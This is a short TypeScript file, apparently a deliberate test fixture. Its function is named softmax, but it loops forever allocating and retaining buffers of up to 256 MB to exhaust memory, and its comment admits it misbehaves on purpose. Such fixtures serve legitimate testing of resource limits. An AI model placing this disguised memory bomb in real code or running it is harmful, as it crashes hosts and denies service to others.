// biome-ignore-all lint: a program that misbehaves on purpose
const kept: ArrayBuffer[] = [];
export function softmax(): number[] {
  for (;;) {
    const buffer = new ArrayBuffer(0, { maxByteLength: 1 << 28 });
    for (let size = 1 << 20; size <= 1 << 28; size *= 2) {
      buffer.resize(size);
      new Uint8Array(buffer).fill(1, size >> 1);
    }
    kept.push(buffer);
  }
}
